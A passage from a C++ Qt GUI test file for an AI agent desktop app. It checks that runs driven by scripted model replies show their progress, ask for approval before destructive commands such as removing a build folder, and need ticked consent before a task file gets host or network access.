// The desktop window driven like a user would: goals typed and dropped, runs against the local
// LLM test server and the host sandbox, approvals clicked, input typed, a desktop notification
// delivered to a notification service on the session bus.
#include "app/HistoryController.h"
#include "app/RunSession.h"
#include "app/WindowController.h"
#include "core/agent/Orchestrator.h"
#include "core/agent/PlanModel.h"
#include "core/store/RunHistoryModel.h"
#include "core/store/RunStore.h"
#include "tests/support/LlmTestServer.h"
#include "tests/support/OtherUserServer.h"
#include "tests/support/ScriptedTurns.h"
#include "tests/support/SseScript.h"
#include "ui/ApprovalPanel.h"
#include "ui/ConsoleView.h"
#include "ui/FolderLink.h"
#include "ui/MainWindow.h"
#include "ui/PastRunView.h"
#include "ui/PlanView.h"
#include "ui/RunHistoryPanel.h"
#include "ui/RunTimeline.h"
#include "ui/SettingsDialog.h"
#include "ui/SourcedField.h"
#include "ui/StatusBadge.h"
#include "ui/StepCard.h"
#include "ui/StepDurationChart.h"
#include "ui/TaskFilePanel.h"
#include "ui/TerminalArea.h"
#include "ui/TerminalPane.h"
#include "ui/TerminalView.h"
#include "vm/Sandbox.h"
#ifdef TERRARIUM_HAVE_QTERMWIDGET
#include "ui/QTermWidgetHeader.h"
#include "ui/QTermWidgetView.h"
#endif

#include <QApplication>
#include <QCheckBox>
#include <QComboBox>
#include <QDBusConnection>
#include <QDBusConnectionInterface>
#include <QDBusVariant>
#include <QDialogButtonBox>
#include <QElapsedTimer>
#include <QJsonArray>
#include <QJsonDocument>
#include <QLabel>
#include <QLineEdit>
#include <QListView>
#include <QMessageBox>
#include <QMimeData>
#include <QPlainTextEdit>
#include <QProcess>
#include <QPushButton>
#include <QRadioButton>
#include <QScopeGuard>
#include <QSettings>
#include <QSignalSpy>
#include <QSpinBox>
#include <QSplitter>
#include <QTabWidget>
#include <QTemporaryDir>
#include <QTest>
#include <QToolButton>

using namespace Terrarium;
using Core::LlmProvider;
using Core::RunState;
using Core::StepState;
using Tests::LlmTestServer;
using Tests::ScriptedResponse;
using Tests::SseScript;

namespace {

// Every scripted turn here speaks Chat Completions.
ScriptedResponse planReply(const QStringList &steps, int chunkDelayMs = 0)
{
    return Tests::ScriptedTurns::plan(LlmProvider::ChatCompletions, steps, chunkDelayMs);
}

ScriptedResponse commandReply(const QString &command)
{
    return Tests::ScriptedTurns::command(LlmProvider::ChatCompletions, command);
}

// The answers the run store kept for the newest run's approvals, in order (read on a store of
// its own, as the next start reads it).
QStringList storedDecisions()
{
    Core::RunStore store;
    if (!store.open(Core::RunStore::defaultPath()) || store.runs().isEmpty())
        return {};
    QStringList decisions;
    for (const Core::StoredApproval &approval : store.approvals(store.runs().first().runId))
        decisions << approval.decision;
    return decisions;
}

} // namespace

// A notification daemon, as the desktop would run one: it receives Notify over D-Bus.
class NotificationService : public QObject
{
    Q_OBJECT
    Q_CLASSINFO("D-Bus Interface", "org.freedesktop.Notifications")

public:
    QStringList summaries;

public Q_SLOTS:
    uint Notify(const QString &appName, uint replacesId, const QString &icon,
                const QString &summary, const QString &body, const QStringList &actions,
                const QVariantMap &hints, int timeout)
    {
        Q_UNUSED(appName)
        Q_UNUSED(replacesId)
        Q_UNUSED(icon)
        Q_UNUSED(body)
        Q_UNUSED(actions)
        Q_UNUSED(hints)
        Q_UNUSED(timeout)
        summaries << summary;
        return uint(summaries.size());
    }
};

// How long the window may take for what it does asynchronously (a run's events, the keyring,
// D-Bus, a shell's prompt): generous, for CI machines running two test programs at once.
constexpr int AsyncMs = 20000;

class tst_Window : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void init();
    void cleanup();

    void successfulRunTicksTheChecklist();
    void failedStepIsRePlanned();
    void approveOnceRunsTheCommand();
    void approveForSessionIsKept();
    void denyRePlans();
    void inputReachesTheCommand();
    void droppedMarkdownIsTheGoal();
    void droppedYamlSetsTheRun();
    void taskFileAskingForTheNetworkNeedsATick();
    void taskFilePanelKeepsUpWithTheRun();
    void dontUseBringsBackTheWindowsOwnChoice();
    void onlyTheTaskFilesRunGetsItsHost();
    void workspaceIsNeverTheHomeFolder();
    void autoRunFilesAreFlagged();
    void badTaskFileStartsNothing();
    void replayRunsTheRunbookWithoutAModel();
    void notificationWhenTheWindowIsNotActive();
    void terminalIntoTheRunsSandbox();
    void preferencesSayWhereValuesComeFrom();
    void firstModelSetUpGoesThroughPreferences();
    void terminalEngineFromThePreferences();
    void splittersAreKeptForTheNextWindow();
    void finishedRunIsInTheHistory();
    void runFoldersAreShownAndNotLeftEmpty();
    void resumeFromTheHistory();
    void anotherUsersModelServerOnlyOnceConfirmed();

private:
    void drop(const QString &path);
    // The user picks a sandbox kind in the window's selector.
    void pickSandbox(const QString &kind);
    void clickDontUse();
    // Stops the run that is setting up and waits for its end.
    bool stopRun();
    bool waitForRunEnd(int timeoutMs = 30000);
    QString writeFile(const QString &name, const QByteArray &contents);

    std::unique_ptr<QTemporaryDir> m_dir;
    std::unique_ptr<QTemporaryDir> m_home;
    QByteArray m_savedHome;
    std::optional<QByteArray> m_savedDataHome;
    std::unique_ptr<LlmTestServer> m_server;
    std::unique_ptr<QSettings> m_settings;
    std::unique_ptr<Widgets::MainWindow> m_window;
    std::unique_ptr<App::WindowController> m_controller;
    QList<RunState> m_ended;
};

void tst_Window::init()
{
    m_dir = std::make_unique<QTemporaryDir>();
    // A home of its own: new run folders go to ~/Terrarium, and nothing touches the real one.
    m_home = std::make_unique<QTemporaryDir>();
    m_savedHome = qgetenv("HOME");
    qputenv("HOME", m_home->path().toLocal8Bit());
    // The run store too: in this home, never the user's.
    if (qEnvironmentVariableIsSet("XDG_DATA_HOME"))
        m_savedDataHome = qgetenv("XDG_DATA_HOME");
    qputenv("XDG_DATA_HOME", m_home->filePath(QStringLiteral(".local/share")).toLocal8Bit());
    QVERIFY(QDir(m_dir->path()).mkpath(QStringLiteral("workspace")));
    m_server = std::make_unique<LlmTestServer>();
    QVERIFY(m_server->listen());
    m_settings = std::make_unique<QSettings>(m_dir->filePath(QStringLiteral("terrarium.conf")),
                                             QSettings::IniFormat);
    m_settings->setValue(QStringLiteral("llm/provider"), QStringLiteral("chat"));
    m_settings->setValue(QStringLiteral("llm/base_url"), m_server->baseUrl().toString());
    m_settings->setValue(QStringLiteral("llm/model"), QStringLiteral("test-model"));
    m_settings->setValue(QStringLiteral("sandbox/kind"), QStringLiteral("host"));
    m_settings->setValue(QStringLiteral("sandbox/workspace"),
                         m_dir->filePath(QStringLiteral("workspace")));
    m_settings->sync();

    m_window = std::make_unique<Widgets::MainWindow>();
    m_controller = std::make_unique<App::WindowController>(m_window.get(), m_settings.get(),
                                                           Core::ConfigOverrides());
    m_ended.clear();
    connect(m_controller.get(), &App::WindowController::runEnded, this,
            [this](RunState state) { m_ended << state; });
    // The size a fresh window opens at on a screen with room for it (the offscreen platform's
    // is 800×800; tst_mainwindow has the small screen): the terminals' tests count prompts
    // on a screen of the default height.
    m_window->resize(1180, 780);
    m_window->show();
    QVERIFY(QTest::qWaitForWindowExposed(m_window.get()));
}

void tst_Window::cleanup()
{
    m_controller.reset();
    m_window.reset();
    m_settings.reset();
    m_server.reset();
    m_dir.reset();
    qputenv("HOME", m_savedHome);
    if (m_savedDataHome)
        qputenv("XDG_DATA_HOME", *m_savedDataHome);
    else
        qunsetenv("XDG_DATA_HOME");
    m_savedDataHome.reset();
    m_home.reset();
}

bool tst_Window::waitForRunEnd(int timeoutMs)
{
    QElapsedTimer clock;
    clock.start();
    while (m_ended.isEmpty() && clock.elapsed() < timeoutMs)
        QTest::qWait(10);
    return !m_ended.isEmpty();
}

QString tst_Window::writeFile(const QString &name, const QByteArray &contents)
{
    QFile file(m_dir->filePath(name));
    if (!file.open(QIODevice::WriteOnly))
        return {};
    file.write(contents);
    return file.fileName();
}

void tst_Window::drop(const QString &path)
{
    QMimeData data;
    data.setUrls({QUrl::fromLocalFile(path)});
    QWidget *target = m_window.get();
    const QPoint position = target->rect().center();
    QDragEnterEvent enter(position, Qt::CopyAction, &data, Qt::LeftButton, Qt::NoModifier);
    QCoreApplication::sendEvent(target, &enter);
    QVERIFY(enter.isAccepted());
    QDropEvent dropEvent(position, Qt::CopyAction, &data, Qt::LeftButton, Qt::NoModifier);
    QCoreApplication::sendEvent(target, &dropEvent);
}

void tst_Window::pickSandbox(const QString &kind)
{
    QComboBox *picker = nullptr;
    for (QComboBox *box : m_window->findChildren<QComboBox *>()) {
        if (box->accessibleName() == QLatin1String("Sandbox"))
            picker = box;
    }
    QVERIFY(picker);
    // As a click on an entry does it.
    picker->setCurrentIndex(picker->findData(kind));
    QCOMPARE(m_window->sandboxKind(), kind);
}

void tst_Window::clickDontUse()
{
    QToolButton *dismiss = nullptr;
    for (QToolButton *button : m_window->taskFilePanel()->findChildren<QToolButton *>())
        dismiss = button;
    QVERIFY(dismiss);
    QTest::mouseClick(dismiss, Qt::LeftButton);
    QVERIFY(!m_window->taskFilePanel()->isVisible());
}

bool tst_Window::stopRun()
{
    QTest::mouseClick(m_window->stopButton(), Qt::LeftButton);
    return waitForRunEnd(60000);
}

void tst_Window::successfulRunTicksTheChecklist()
{
    // The plan arrives slowly, so the PLANNING state is visible before anything runs.
    m_server->enqueue(
        planReply({QStringLiteral("Write a greeting"), QStringLiteral("Show it")}, 20));
    m_server->enqueue(commandReply(QStringLiteral("echo 'hello from the sandbox' > greeting.txt")));
    m_server->enqueue(
        commandReply(QStringLiteral("cat greeting.txt; printf '\\033[32mgreen\\033[0m\\n'")));

    m_window->goalEdit()->setFocus();
    QTest::keyClicks(m_window->goalEdit(), QStringLiteral("write and show a greeting"));
    const int fullHeight = m_window->goalEdit()->height();
    QTest::keyClick(m_window->goalEdit(), Qt::Key_Return, Qt::ControlModifier);
    QVERIFY(m_window->isBusy());
    QVERIFY(!m_window->runButton()->isEnabled());
    // The goal of a run in progress is shown, not edited, and gives the timeline room.
    QVERIFY(m_window->goalEdit()->isReadOnly());
    QTest::keyClicks(m_window->goalEdit(), QStringLiteral("typed during the run"));
    QCOMPARE(m_window->goal(), QStringLiteral("write and show a greeting"));
    QVERIFY(m_window->goalEdit()->height() < fullHeight);
    // The setup shows first, with its progress.
    QTRY_VERIFY_WITH_TIMEOUT(m_window->timeline()->setupRow(), AsyncMs);
    QTRY_COMPARE_WITH_TIMEOUT(m_window->statusBadge()->state(), RunState::Planning, AsyncMs);
    QCOMPARE(m_window->statusBadge()->text(), QStringLiteral("PLANNING"));

    QVERIFY(waitForRunEnd());
    QCOMPARE(m_ended.first(), RunState::Success);
    QCOMPARE(m_window->statusBadge()->state(), RunState::Success);
    QCOMPARE(m_window->statusBadge()->text(), QStringLiteral("SUCCESS"));
    QVERIFY(m_window->statusBadge()->colorFor(RunState::Success)
            != m_window->statusBadge()->colorFor(RunState::Failed));
    QVERIFY(m_window->runButton()->isEnabled());
    QVERIFY(!m_window->stopButton()->isEnabled());
    QVERIFY(!m_window->goalEdit()->isReadOnly());
    QVERIFY(m_window->timeline()->setupRow()->isFinished());
    // A summary row ends the run.
    Widgets::TimelineNote *summary = m_window->timeline()->summary();
    QVERIFY(summary);
    QCOMPARE(summary->kind(), Widgets::TimelineNote::Kind::RunSucceeded);
    QVERIFY2(summary->title().contains(QLatin1String("2 steps done")),
             qPrintable(summary->title()));

    // The checklist ticked both steps.
    QAbstractItemModel *plan = m_window->planView()->listView()->model();
    QCOMPARE(plan->rowCount(), 2);
    for (int row = 0; row < 2; ++row)
        QCOMPARE(plan->data(plan->index(row, 0), Core::PlanModel::StateRole).toInt(),
                 int(StepState::Done));
    QCOMPARE(plan->data(plan->index(1, 0), Core::PlanModel::CommandRole).toString(),
             QStringLiteral("cat greeting.txt; printf '\\033[32mgreen\\033[0m\\n'"));

    // One card per step, with the step's words, its command and its output.
    const QList<Widgets::StepCard *> cards = m_window->timeline()->cards();
    QCOMPARE(cards.size(), 2);
    QCOMPARE(cards.at(0)->title(), QStringLiteral("Write a greeting"));
    QCOMPARE(cards.at(1)->command(),
             QStringLiteral("cat greeting.txt; printf '\\033[32mgreen\\033[0m\\n'"));
    QCOMPARE(cards.at(1)->state(), StepState::Done);
    cards.at(1)->stdoutConsole()->flush();
    const QString shown = cards.at(1)->stdoutConsole()->toPlainText();
    QVERIFY2(shown.contains(QLatin1String("hello from the sandbox")), qPrintable(shown));
    // ANSI colours are rendered, not printed.
    QVERIFY(!shown.contains(QLatin1String("[32m")));
    QVERIFY(shown.contains(QLatin1String("green")));
}

void tst_Window::failedStepIsRePlanned()
{
    m_server->enqueue(planReply({QStringLiteral("Print config.txt")}));
    m_server->enqueue(commandReply(QStringLiteral("cat config.txt")));
    m_server->enqueue(
        planReply({QStringLiteral("Create config.txt"), QStringLiteral("Print config.txt")}));
    m_server->enqueue(commandReply(QStringLiteral("echo mode=demo > config.txt")));
    m_server->enqueue(commandReply(QStringLiteral("cat config.txt")));

    m_window->setGoal(QStringLiteral("print config.txt"));
    QTest::mouseClick(m_window->runButton(), Qt::LeftButton);
    QVERIFY(waitForRunEnd());
    QCOMPARE(m_ended.first(), RunState::Success);

    const QList<Widgets::StepCard *> cards = m_window->timeline()->cards();
    QCOMPARE(cards.size(), 3);
    QCOMPARE(cards.at(0)->state(), StepState::Failed);
    cards.at(0)->stderrConsole()->flush();
    QVERIFY(cards.at(0)->stderrConsole()->toPlainText().contains(QLatin1String("No such file")));
    const QString notices = m_window->timeline()->notices().join(u'\n');
    QVERIFY2(notices.contains(QLatin1String("Re-planning")), qPrintable(notices));

    // Both revisions are there; the old one still shows the failed step.
    QComboBox *revisions = m_window->planView()->revisionPicker();
    QCOMPARE(revisions->count(), 2);
    QVERIFY(revisions->isEnabled());
    QCOMPARE(m_window->planView()->shownRevision(), 2);
    revisions->setCurrentIndex(1);
    Q_EMIT revisions->activated(1);
    QCOMPARE(m_window->planView()->shownRevision(), 1);
    QAbstractItemModel *old = m_window->planView()->listView()->model();
    QCOMPARE(old->rowCount(), 1);
    QCOMPARE(old->data(old->index(0, 0), Core::PlanModel::StateRole).toInt(),
             int(StepState::Failed));
}

void tst_Window::approveOnceRunsTheCommand()
{
    const QString workspace = m_dir->filePath(QStringLiteral("workspace"));
    QVERIFY(QDir(workspace).mkpath(QStringLiteral("build/out")));
    m_server->enqueue(planReply({QStringLiteral("Remove the build folder")}));
    m_server->enqueue(commandReply(QStringLiteral("rm -rf build")));

    m_window->setGoal(QStringLiteral("clean up"));
    QTest::mouseClick(m_window->runButton(), Qt::LeftButton);
    QTRY_VERIFY_WITH_TIMEOUT(m_window->approvalPanel()->isVisible(), AsyncMs);
    QCOMPARE(m_window->statusBadge()->state(), RunState::AwaitingApproval);
    QCOMPARE(m_window->statusBadge()->text(), QStringLiteral("AWAITING APPROVAL"));
    QCOMPARE(m_window->approvalPanel()->command(), QStringLiteral("rm -rf build"));
    // Deny has the focus: a stray Enter runs nothing.
    QVERIFY(m_window->approvalPanel()->button(Core::ApprovalDecision::Deny)->hasFocus());
    QVERIFY(QDir(workspace).exists(QStringLiteral("build")));

    // Keyboard: the mnemonic of "Run once".
    QTest::keyClick(m_window.get(), Qt::Key_O, Qt::AltModifier);
    QVERIFY(waitForRunEnd());
    QCOMPARE(m_ended.first(), RunState::Success);
    QVERIFY(!QDir(workspace).exists(QStringLiteral("build")));
    QVERIFY(!m_window->approvalPanel()->isVisible());
    // The run is kept with the user's answer, not only that the command ran.
    QCOMPARE(storedDecisions(), QStringList{QStringLiteral("once")});
}

void tst_Window::approveForSessionIsKept()
{
    const QString workspace = m_dir->filePath(QStringLiteral("workspace"));
    QVERIFY(QDir(workspace).mkpath(QStringLiteral("build")));
    m_server->enqueue(planReply({QStringLiteral("Remove the build folder")}));
    m_server->enqueue(commandReply(QStringLiteral("rm -rf build")));

    m_window->setGoal(QStringLiteral("clean up"));
    QTest::mouseClick(m_window->runButton(), Qt::LeftButton);
    QTRY_VERIFY_WITH_TIMEOUT(m_window->approvalPanel()->isVisible(), AsyncMs);
    QTest::mouseClick(m_window->approvalPanel()->button(Core::ApprovalDecision::Session),
                      Qt::LeftButton);
    QVERIFY(waitForRunEnd());
    QCOMPARE(m_ended.first(), RunState::Success);
    QVERIFY(!QDir(workspace).exists(QStringLiteral("build")));
    QCOMPARE(storedDecisions(), QStringList{QStringLiteral("session")});
}

void tst_Window::denyRePlans()
{
    const QString workspace = m_dir->filePath(QStringLiteral("workspace"));
    QVERIFY(QDir(workspace).mkpath(QStringLiteral("build")));
    m_server->enqueue(planReply({QStringLiteral("Remove the build folder")}));
    m_server->enqueue(commandReply(QStringLiteral("rm -rf build")));
    m_server->enqueue(planReply({QStringLiteral("Leave it")}));
    m_server->enqueue(commandReply(QStringLiteral("echo kept")));

    m_window->setGoal(QStringLiteral("clean up"));
    QTest::mouseClick(m_window->runButton(), Qt::LeftButton);
    QTRY_VERIFY_WITH_TIMEOUT(m_window->approvalPanel()->isVisible(), AsyncMs);
    QTest::mouseClick(m_window->approvalPanel()->button(Core::ApprovalDecision::Deny),
                      Qt::LeftButton);
    QVERIFY(waitForRunEnd());
    QCOMPARE(m_ended.first(), RunState::Success);
    QVERIFY(QDir(workspace).exists(QStringLiteral("build")));
    QVERIFY(m_window->timeline()->notices().join(u' ').contains(QLatin1String("denied")));
    // The denied step has its card, saying so: not "failed", and nothing ran.
    Widgets::StepCard *denied = m_window->timeline()->cards().first();
    QCOMPARE(denied->command(), QStringLiteral("rm -rf build"));
    QCOMPARE(denied->state(), StepState::Denied);
    QCOMPARE(denied->resultText(), QStringLiteral("denied"));
    QCOMPARE(storedDecisions(), QStringList{QStringLiteral("deny")});
}

void tst_Window::inputReachesTheCommand()
{
    m_server->enqueue(planReply({QStringLiteral("Greet the user")}));
    m_server->enqueue(
        commandReply(QStringLiteral("printf 'Name: '; read name; echo \"hi $name\"")));

    m_window->setGoal(QStringLiteral("greet me"));
    QTest::mouseClick(m_window->runButton(), Qt::LeftButton);
    QTRY_COMPARE_WITH_TIMEOUT(m_window->statusBadge()->state(), RunState::AwaitingInput, AsyncMs);
    QCOMPARE(m_window->statusBadge()->text(), QStringLiteral("AWAITING INPUT"));
    Widgets::StepCard *card = m_window->timeline()->cards().first();
    QLineEdit *input = card->findChild<QLineEdit *>();
    QVERIFY(input);
    QTRY_VERIFY_WITH_TIMEOUT(input->isVisible(), AsyncMs);
    // The keyboard goes where the user is needed, without a click.
    QTRY_VERIFY_WITH_TIMEOUT(input->hasFocus(), AsyncMs);
    QTest::keyClicks(input, QStringLiteral("bob"));
    QTest::keyClick(input, Qt::Key_Return);
    QVERIFY(waitForRunEnd());
    QCOMPARE(m_ended.first(), RunState::Success);
    card->stdoutConsole()->flush();
    QVERIFY(card->stdoutConsole()->toPlainText().contains(QLatin1String("hi bob")));
}

void tst_Window::droppedMarkdownIsTheGoal()
{
    m_server->enqueue(planReply({QStringLiteral("List files")}));
    m_server->enqueue(commandReply(QStringLiteral("ls")));
    const QString path =
        writeFile(QStringLiteral("goal.md"), "# Chores\n\nList the files in the workspace.\n");
    drop(path);
    // A dropped file fills the window and waits: nothing runs by itself.
    QTRY_VERIFY_WITH_TIMEOUT(
        m_window->goal().contains(QLatin1String("List the files in the workspace.")), AsyncMs);
    QVERIFY(m_window->taskFilePanel()->isVisible());
    QTest::qWait(300);
    QVERIFY(!m_window->isBusy());
    QCOMPARE(m_server->requestCount(), 0);
    // Its folder is the workspace.
    QCOMPARE(m_window->workspace(), QFileInfo(m_dir->path()).canonicalFilePath());

    QTest::mouseClick(m_window->runButton(), Qt::LeftButton);
    QVERIFY(waitForRunEnd());
    QCOMPARE(m_ended.first(), RunState::Success);
    QVERIFY(m_server->requests().first().body.contains("List the files in the workspace."));
}

void tst_Window::droppedYamlSetsTheRun()
{
    m_server->enqueue(planReply({QStringLiteral("Show the variable")}));
    m_server->enqueue(commandReply(QStringLiteral("echo \"value=$TASK_VALUE\"")));
    const QString path = writeFile(QStringLiteral("task.yaml"),
                                   "goal: show the task variable\n"
                                   "sandbox: host\n"
                                   "limits:\n"
                                   "  max_steps: 4\n"
                                   "env:\n"
                                   "  TASK_VALUE: from-yaml\n");
    drop(path);
    QTRY_COMPARE_WITH_TIMEOUT(m_window->goal(), QStringLiteral("show the task variable"), AsyncMs);
    QCOMPARE(m_window->sandboxKind(), QStringLiteral("host"));
    Widgets::TaskFilePanel *panel = m_window->taskFilePanel();
    QVERIFY(panel->isVisible());
    // What the file asks for is on show, the host highlighted with a box to tick.
    QStringList shown;
    for (QLabel *label : panel->findChildren<QLabel *>())
        shown << label->text();
    const QString all = shown.join(u'|');
    QVERIFY2(all.contains(QLatin1String("TASK_VALUE=from-yaml")), qPrintable(all));
    QVERIFY2(all.contains(QLatin1String("steps: 4")), qPrintable(all));
    QCheckBox *host = panel->consentBox(QStringLiteral("sandbox"));
    QVERIFY(host);
    QVERIFY(!host->isChecked());
    QVERIFY(!panel->consentBox(QStringLiteral("network")));

    // Run without the tick: refused, nothing asked of the model.
    QTest::mouseClick(m_window->runButton(), Qt::LeftButton);
    QTRY_VERIFY_WITH_TIMEOUT(m_window->errorText().contains(QLatin1String("sandbox: host")),
                             AsyncMs);
    QVERIFY(!m_window->isBusy());
    QCOMPARE(m_server->requestCount(), 0);

    host->setChecked(true);
    QTest::mouseClick(m_window->runButton(), Qt::LeftButton);
    QVERIFY(waitForRunEnd());
    QCOMPARE(m_ended.first(), RunState::Success);
    Widgets::StepCard *card = m_window->timeline()->cards().first();
    card->stdoutConsole()->flush();
    QVERIFY2(card->stdoutConsole()->toPlainText().contains(QLatin1String("value=from-yaml")),
             qPrintable(card->stdoutConsole()->toPlainText()));
}

void tst_Window::taskFileAskingForTheNetworkNeedsATick()
{
    const QString path = writeFile(QStringLiteral("net.yaml"),
                                   "goal: fetch the page\n"
                                   "network: outbound\n"
                                   "image: localhost/terrarium/debian:custom\n");
    drop(path);
    Widgets::TaskFilePanel *panel = m_window->taskFilePanel();
    QTRY_VERIFY_WITH_TIMEOUT(panel->isVisible(), AsyncMs);
    QVERIFY(panel->consentBox(QStringLiteral("network")));
    QTest::mouseClick(m_window->runButton(), Qt::LeftButton);
    QTRY_VERIFY_WITH_TIMEOUT(m_window->errorText().contains(QLatin1String("network: outbound")),
                             AsyncMs);
    QCOMPARE(m_server->requestCount(), 0);
    QVERIFY(!m_window->isBusy());

    // "Don't Use" forgets the file's settings: the goal stays and runs without them.
    QToolButton *dismiss = nullptr;
    for (QToolButton *button : panel->findChildren<QToolButton *>())
        dismiss = button;
    QVERIFY(dismiss);
    QTest::mouseClick(dismiss, Qt::LeftButton);
    QVERIFY(!panel->isVisible());
    QVERIFY(!m_controller->taskFile());
    QCOMPARE(m_window->goal(), QStringLiteral("fetch the page"));
}

void tst_Window::taskFilePanelKeepsUpWithTheRun()
{
    QVERIFY(QDir(m_dir->path()).mkpath(QStringLiteral("project")));
    const QString path = writeFile(QStringLiteral("project/net.yaml"),
                                   "goal: fetch the page\n"
                                   "network: outbound\n");
    const QString folder =
        QFileInfo(m_dir->filePath(QStringLiteral("project"))).canonicalFilePath();
    drop(path);
    Widgets::TaskFilePanel *panel = m_window->taskFilePanel();
    QTRY_VERIFY_WITH_TIMEOUT(panel->isVisible(), AsyncMs);
    QVERIFY(panel->title().contains(QLatin1String("press Run to start it")));
    // The file's folder is the workspace, and the panel says so, with how it is used.
    QCOMPARE(m_window->workspace(), folder);
    QVERIFY2(panel->workspaceText().contains(folder)
                 && panel->workspaceText().contains(QLatin1String("on this computer")),
             qPrintable(panel->workspaceText()));
    QVERIFY(!panel->offersCopyMode());
    pickSandbox(QStringLiteral("podman"));
    QVERIFY2(panel->workspaceText().contains(QLatin1String("mounted into the sandbox")),
             qPrintable(panel->workspaceText()));
    // The empty timeline says what the next run gets: the file's network, not the default.
    QVERIFY2(m_window->timeline()->emptyStateText().contains(QLatin1String("network open")),
             qPrintable(m_window->timeline()->emptyStateText()));
    QVERIFY(panel->offersCopyMode());
    QTest::mouseClick(panel->findChild<QPushButton *>(QStringLiteral("taskCopyModeButton")),
                      Qt::LeftButton);
    QVERIFY2(panel->workspaceText().contains(QLatin1String("works on a copy")),
             qPrintable(panel->workspaceText()));
    QVERIFY(!panel->offersCopyMode());
    m_settings->sync();
    QCOMPARE(m_settings->value(QStringLiteral("sandbox/workspace_mode")).toString(),
             QStringLiteral("copy"));
    pickSandbox(QStringLiteral("host"));

    // Run without the tick: the banner and the red box; the tick takes both away.
    QTest::mouseClick(m_window->runButton(), Qt::LeftButton);
    QTRY_VERIFY_WITH_TIMEOUT(m_window->errorText().contains(QLatin1String("network: outbound")),
                             AsyncMs);
    QVERIFY(panel->isHighlighted(QStringLiteral("network")));
    panel->consentBox(QStringLiteral("network"))->click();
    QVERIFY(!panel->isHighlighted(QStringLiteral("network")));
    QVERIFY(m_window->errorText().isEmpty());

    m_server->enqueue(planReply({QStringLiteral("Say hello")}));
    m_server->enqueue(commandReply(QStringLiteral("echo hello")));
    QTest::mouseClick(m_window->runButton(), Qt::LeftButton);
    QTRY_VERIFY_WITH_TIMEOUT(panel->title().contains(QLatin1String("its run started")), AsyncMs);
    QVERIFY(waitForRunEnd());
    QCOMPARE(m_ended.first(), RunState::Success);
    // After the run the title no longer asks to start what has run.
    QVERIFY2(!panel->title().contains(QLatin1String("press Run to start it"))
                 && panel->title().contains(QLatin1String("succeeded"))
                 && panel->title().contains(QLatin1String("run it again")),
             qPrintable(panel->title()));
}

void tst_Window::dontUseBringsBackTheWindowsOwnChoice()
{
    // The user's own choice: Podman, in the configured workspace.
    pickSandbox(QStringLiteral("podman"));
    const QString ownWorkspace = m_window->workspace();
    QVERIFY(!ownWorkspace.isEmpty());
    QVERIFY(QDir(m_dir->path()).mkpath(QStringLiteral("shared")));
    const QString path = writeFile(QStringLiteral("shared/host.yaml"),
                                   "goal: tidy up the home folder\n"
                                   "sandbox: host\n");
    drop(path);
    QTRY_COMPARE_WITH_TIMEOUT(m_window->sandboxKind(), QStringLiteral("host"), AsyncMs);
    QCOMPARE(m_window->workspace(),
             QFileInfo(m_dir->filePath(QStringLiteral("shared"))).canonicalFilePath());

    // Don't Use: the file's settings go, the window's own come back; the goal stays.
    clickDontUse();
    QCOMPARE(m_window->sandboxKind(), QStringLiteral("podman"));
    QCOMPARE(m_window->workspace(), ownWorkspace);
    QCOMPARE(m_window->goal(), QStringLiteral("tidy up the home folder"));

    // Run: in the window's own sandbox and folder, not unconfined on the host.
    QTest::mouseClick(m_window->runButton(), Qt::LeftButton);
    QVERIFY(m_controller->session());
    QCOMPARE(m_controller->session()->config().sandbox, QStringLiteral("podman"));
    QCOMPARE(m_controller->session()->config().workspace, ownWorkspace);
    QVERIFY(stopRun());
}

void tst_Window::onlyTheTaskFilesRunGetsItsHost()
{
    pickSandbox(QStringLiteral("podman"));
    const QString ownWorkspace = m_window->workspace();
    const QString hostTask = writeFile(QStringLiteral("host.yaml"),
                                       "goal: tidy up the home folder\n"
                                       "sandbox: host\n");
    drop(hostTask);
    QTRY_COMPARE_WITH_TIMEOUT(m_window->sandboxKind(), QStringLiteral("host"), AsyncMs);

    // Its run without the tick does not start, nor does anything reach the model.
    QTest::mouseClick(m_window->runButton(), Qt::LeftButton);
    QTRY_VERIFY_WITH_TIMEOUT(m_window->errorText().contains(QLatin1String("sandbox: host")),
                             AsyncMs);
    QVERIFY(!m_window->isBusy());
    QVERIFY(!m_controller->session());
    QCOMPARE(m_server->requestCount(), 0);

    // A control client's run meanwhile is not the task file's: the window's own sandbox.
    const auto started = m_controller->startRun(QStringLiteral("list the files"), QString());
    QVERIFY2(started.has_value(), started ? "" : qPrintable(started.error().message));
    QCOMPARE(m_controller->session()->config().sandbox, QStringLiteral("podman"));
    QCOMPARE(m_controller->session()->config().workspace, ownWorkspace);
    QVERIFY(stopRun());
    m_ended.clear();

    // A second task file that names no sandbox does not inherit the first one's host.
    const QString goalOnly = writeFile(QStringLiteral("goal.yaml"), "goal: list the files\n");
    drop(goalOnly);
    QTRY_COMPARE_WITH_TIMEOUT(m_window->goal(), QStringLiteral("list the files"), AsyncMs);
    QCOMPARE(m_window->sandboxKind(), QStringLiteral("podman"));
    QTest::mouseClick(m_window->runButton(), Qt::LeftButton);
    QVERIFY(m_window->isBusy());
    QCOMPARE(m_controller->session()->config().sandbox, QStringLiteral("podman"));
    QVERIFY(stopRun());
}

void tst_Window::workspaceIsNeverTheHomeFolder()
{
    // With nothing configured, each run gets a new folder under ~/Terrarium.
    m_settings->remove(QStringLiteral("sandbox/workspace"));
    m_settings->sync();
    m_controller.reset();
    m_window = std::make_unique<Widgets::MainWindow>();
    m_controller = std::make_unique<App::WindowController>(m_window.get(), m_settings.get(),
                                                           Core::ConfigOverrides());
    connect(m_controller.get(), &App::WindowController::runEnded, this,
            [this](RunState state) { m_ended << state; });
    m_window->show();
    QVERIFY(m_window->workspace().isEmpty());
    QVERIFY2(m_window->workspaceLabel()->text().contains(QLatin1String("Terrarium")),
             qPrintable(m_window->workspaceLabel()->text()));

    // Choosing the home folder is refused and says why.
    Q_EMIT m_window->workspaceChanged(QDir::homePath());
    QVERIFY2(m_window->errorText().contains(QLatin1String("home folder")),
             qPrintable(m_window->errorText()));
    QVERIFY(m_window->workspace().isEmpty());

    m_server->enqueue(planReply({QStringLiteral("Write a file")}));
    m_server->enqueue(commandReply(QStringLiteral("echo made > made.txt; pwd")));
    m_window->setGoal(QStringLiteral("make a file"));
    QTest::mouseClick(m_window->runButton(), Qt::LeftButton);
    QVERIFY(waitForRunEnd());
    QCOMPARE(m_ended.first(), RunState::Success);
    const QString runs = QDir::homePath() + QStringLiteral("/Terrarium");
    const QStringList folders = QDir(runs).entryList(QDir::Dirs | QDir::NoDotAndDotDot);
    QCOMPARE(folders.size(), 1);
    QVERIFY2(folders.first().endsWith(QLatin1String("-make-a-file")), qPrintable(folders.first()));
